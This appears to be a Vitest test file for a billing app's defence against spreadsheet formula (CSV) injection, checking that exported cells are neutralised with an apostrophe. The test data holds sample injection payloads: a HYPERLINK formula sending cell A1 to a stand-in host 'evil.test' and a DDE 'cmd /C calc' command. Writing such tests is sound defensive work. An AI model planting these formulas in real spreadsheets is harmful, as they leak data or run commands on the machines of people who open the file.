import { describe, expect, it } from 'vitest';
import { billSheet } from '../../e2e/fixtures/bill-sheets.js';
import { readSheet1 } from '../../src/server/modules/billing/sheet.js';
import { neutraliseCell, neutraliseRow } from '../../src/shared/spreadsheet-cell.js';

describe('spreadsheet cells leaving the system (OWASP CSV injection)', () => {
  it('prefixes an apostrophe to text starting with = + - @, a tab or a carriage return', () => {
    for (const v of ['=HYPERLINK("http://evil.test?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']) {
      expect(neutraliseCell(v)).toBe(`'${v}`);
    }
  });

  it('leaves other text, numbers and empty cells as they are', () => {
    for (const v of ['House 1, Street 2', 'علی', '', ' =not first', "'already quoted", 'a=b']) expect(neutraliseCell(v)).toBe(v);
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(null)).toBe(null);
    expect(neutraliseRow({ Name: '=1+1', Units: -3, Address: 'House 1' })).toEqual({ Name: "'=1+1", Units: -3, Address: 'House 1' });
  });

  it('a sheet written through it reads back as text, not formulas (npm run sample:bills)', () => {
    const file = billSheet([neutraliseRow({ Index: 1, Name: '=HYPERLINK("http://evil.test","Pay")', Address: '+92 House 1', Units: 10 })]);
    const [row] = readSheet1(file).rows;
    expect(row).toMatchObject({ name: '\'=HYPERLINK("http://evil.test","Pay")', address: "'+92 House 1", units: 10 });
  });
});
